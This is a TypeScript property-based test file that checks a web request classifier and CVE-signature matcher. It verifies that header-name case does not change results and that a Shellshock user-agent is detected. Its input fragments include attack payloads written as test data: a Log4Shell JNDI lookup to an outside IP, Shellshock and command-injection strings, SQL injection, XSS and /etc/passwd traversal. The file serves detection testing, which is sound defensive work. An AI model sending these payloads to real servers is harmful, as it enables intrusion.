import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { classifyRequest } from './classify.ts';
import { matchCveSignatures } from './cve/index.ts';

const pieces = [
  '/',
  '/index.php',
  '?id=1',
  '&doas=',
  ';id',
  '`id`',
  "' or 1=1--",
  '<script>alert(1)</script>',
  '${jndi:ldap://203.0.113.9/a}',
  '${lower:j}ndi',
  '() { :; }; echo',
  '../../etc/passwd',
  '%24%7bjndi',
  '%0a',
  '\r\n',
  'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0',
  'https://example.org/',
  'sqlmap/1.7',
];
const text = fc.array(fc.constantFrom(...pieces), { maxLength: 5 }).map((parts) => parts.join(''));

// A request whose header names are spelled otherwise takes the long way, in which nothing is remembered of headers.
describe('a request with an agent and a referrer alone', () => {
  it('is told of as one whose headers are spelled in small letters', () => {
    fc.assert(
      fc.property(text, text, text, fc.boolean(), (path, agent, referrer, agentFirst) => {
        const headers = [
          ['User-Agent', agent],
          ['Referer', referrer],
        ] as const;
        const inOrder = agentFirst ? headers : headers.toReversed();
        const request = { method: 'GET', path: `/${path}`, body: '' };
        const bare = { ...request, headers: inOrder };
        const spelled = {
          ...request,
          headers: inOrder.map(([name, value]) => [name.toLowerCase(), value] as const),
        };
        expect(matchCveSignatures(bare)).toEqual(matchCveSignatures(spelled));
        expect(classifyRequest(bare)).toEqual(classifyRequest(spelled));
      }),
      { numRuns: 200 },
    );
  });

  it('is recognised by what stands in its agent', () => {
    const shellshock = {
      method: 'GET',
      path: '/cgi-bin/status',
      headers: [['User-Agent', '() { :; }; /bin/id']],
      body: '',
    } as const;
    const names = [...matchCveSignatures(shellshock), ...classifyRequest(shellshock)].map(({ name }) => name);
    expect(names.length).toBeGreaterThan(0);
    expect(
      [...matchCveSignatures(shellshock), ...classifyRequest(shellshock)].map(({ name }) => name),
    ).toEqual(names);
  });
});
